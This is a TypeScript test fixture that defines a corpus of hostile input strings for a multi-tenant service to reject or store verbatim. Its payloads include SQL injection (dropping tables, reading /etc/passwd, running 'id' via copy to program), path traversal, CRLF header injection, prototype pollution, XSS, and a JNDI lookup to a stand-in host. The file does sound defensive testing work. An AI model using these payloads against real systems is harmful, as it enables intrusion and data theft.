/**
 * A corpus of hostile strings for attack tests: every input that reaches your service (tenant
 * slugs and ids, headers, host names, paths, query parameters, token claims, request bodies)
 * should either reject each of these with a clear 4xx, or store and return it verbatim as data.
 *
 * Every entry is a plain string (for non-strings — `null`, numbers, objects — test your
 * validation separately). None of them is a valid tenant slug, uuid, domain or e-mail address,
 * so an input that accepts one as such has a validation hole. The longest is 10 000
 * characters: small enough for an HTTP header (Node allows 16 KiB in all), large enough to
 * pass most length limits' boundaries.
 */

/** One hostile string, with the family it belongs to (for test names and reports). */
export interface HostileString {
  readonly family: HostileFamily;
  readonly value: string;
}

export type HostileFamily =
  | 'sql'
  | 'quote'
  | 'comment'
  | 'control'
  | 'unicode'
  | 'path'
  | 'header'
  | 'object-key'
  | 'template'
  | 'format'
  | 'number'
  | 'length'
  | 'blank'
  | 'identifier';

const entries: readonly (readonly [HostileFamily, readonly string[]])[] = [
  [
    'sql',
    [
      "' or '1'='1",
      "' or 1=1 --",
      '" or ""="',
      "admin'--",
      '1; drop table tenantry.tenants; --',
      "x'); drop table posts; --",
      "'; select pg_sleep(5); --",
      "' union select id, slug from tenantry.tenants --",
      "'||(select current_user)||'",
      '1 or 1=1',
      "' and 1=cast((select version()) as int) --",
      "'; copy (select '') to program 'id'; --",
      "'; set role postgres; --",
      "'; reset role; --",
      "$$; select pg_read_file('/etc/passwd'); $$",
      "E'\\x27; drop table x; --'",
      "U&'\\0027; drop table x; --'",
      "'; select set_config('search_path', 'tenantry', false); --",
      "acme'; create schema pwned; --",
      "\\'; drop table x; --",
    ],
  ],
  ['quote', ["'", '"', '`', "''", '""', "acme'", 'acme"', '"acme"', "\\'", '\\"', '‘acme’', '“acme”']],
  ['comment', ['--', '/*', '*/', '/* comment */acme', 'acme--', 'acme/*', '#acme', '-- -', ';', ';;', 'acme;', '; select 1']],
  [
    'control',
    ['acme\u0000', '\u0000', 'ac\u0000me', 'acme\u0007', 'acme\u001b[31m', 'acme\u007f', 'acme\t', '\tacme', 'acme\u0085', 'acme\b'],
  ],
  [
    'unicode',
    [
      'аcme' /* Cyrillic а */,
      'acmе' /* Cyrillic е */,
      'ａｃｍｅ' /* fullwidth */,
      'acme\u200b' /* zero-width space */,
      'ac\u200dme' /* zero-width joiner */,
      '\ufeffacme' /* byte-order mark */,
      'ac\u00adme' /* soft hyphen */,
      'acme\u202egnp.exe' /* right-to-left override */,
      '\u2066acme\u2069' /* isolates */,
      'ａｄｍｉｎ',
      'ǅungla',
      'ß-corp',
      'İstanbul',
      'acmé',
      'acme\u0301' /* combining accent */,
      '🙂acme',
      '𝐚𝐜𝐦𝐞' /* mathematical bold */,
      'ⓐⓒⓜⓔ',
      '\u2028acme\u2029' /* line and paragraph separators */,
      '\ud800' /* lone surrogate */,
      '\u00c0\u00ae' /* overlong-encoding look-alike */,
      '%C0%AE%C0%AE%2F',
      '\ufffd',
    ],
  ],
  [
    'path',
    [
      '..',
      '../acme',
      '../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '%2e%2e%2f',
      '%252e%252e%252f',
      '/acme',
      'acme/',
      'acme/../other',
      './acme',
      'acme%2Fposts',
      'file:///etc/passwd',
      '//evil.example/acme',
      'acme?x=1',
      'acme#frag',
    ],
  ],
  [
    'header',
    [
      'acme\r\nx-tenant-id: other',
      'acme\r\n\r\nGET /tenants HTTP/1.1',
      'acme\nset-cookie: a=b',
      'acme\r',
      'acme%0d%0aset-cookie:%20a=b',
      'acme, other',
      'acme;other',
      'acme:443',
      'acme:pw@evil.example',
      'evil.example:80@acme',
    ],
  ],
  [
    'object-key',
    [
      '__proto__',
      'Constructor',
      '__proto__.polluted',
      '__proto__[admin]',
      'constructor[prototype]',
      '{"__proto__":{"admin":true}}',
      'hasOwnProperty',
      'toString',
      'valueOf',
    ],
  ],
  [
    'template',
    [
      '${7*7}',
      '{{7*7}}',
      '#{7*7}',
      '<%= 7*7 %>',
      '${jndi:ldap://evil.example/a}',
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      "javascript:alert('x')",
      '{{constructor.constructor("return process")()}}',
    ],
  ],
  ['format', ['%s', '%s%s%s%s%s', '%d', '%n', '%x%x%x', '%1$s', '{0}', '%00', '%']],
  [
    'number',
    [
      '0',
      '-1',
      '1e309',
      'NaN',
      'Infinity',
      '-0',
      '0x41',
      '9223372036854775808',
      '1.7976931348623157e+308',
      '00000000-0000-0000-0000-00000000000g',
      '{00000000-0000-0000-0000-000000000000}',
      '00000000000000000000000000000000',
      'NULL',
      'None',
      'undefined()',
    ],
  ],
  [
    'length',
    [
      `a${'b'.repeat(63)}`,
      `a${'-b'.repeat(40)}`,
      'x'.repeat(256),
      'y'.repeat(4096),
      'z'.repeat(10_000),
      `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.com`,
    ],
  ],
  ['blank', ['', ' ', '   ', '\u00a0', '\u3000', '\n', ' \t ']],
  [
    'identifier',
    [
      'pg_catalog',
      'pg-catalog',
      'pg_temp',
      'information_schema',
      '"tenantry"."tenants"',
      'public."posts"',
      'Acme',
      'ACME',
      '1acme',
      '-acme',
      'acme-',
      '_acme',
      'ac_me',
      'ac--me',
      'a',
      'ab',
      'acme.',
      '.acme',
    ],
  ],
];

/** The corpus with each string's family. */
export const HOSTILE_STRING_CASES: readonly HostileString[] = Object.freeze(
  entries.flatMap(([family, values]) => values.map((value) => Object.freeze({ family, value }))),
);

/**
 * Valid slugs that are also names of `Object.prototype` members: a service that keeps tenants
 * in plain objects mixes them up with inherited properties. Each should work as an ordinary
 * tenant (not a rejection test: they are valid).
 */
export const PROTOTYPE_KEY_SLUGS: readonly string[] = Object.freeze([
  'constructor',
  'prototype',
  'tostring',
  'valueof',
  'hasownproperty',
  'proto',
]);

/** The hostile strings (≥ 100). */
export const HOSTILE_STRINGS: readonly string[] = Object.freeze(HOSTILE_STRING_CASES.map((c) => c.value));

/** A short, printable label for a hostile string (for test messages): JSON-escaped, at most 60 characters. */
export function describeHostile(value: string): string {
  const json = JSON.stringify(value);
  return json.length > 60 ? `${json.slice(0, 57)}…" (${value.length} chars)` : json;
}
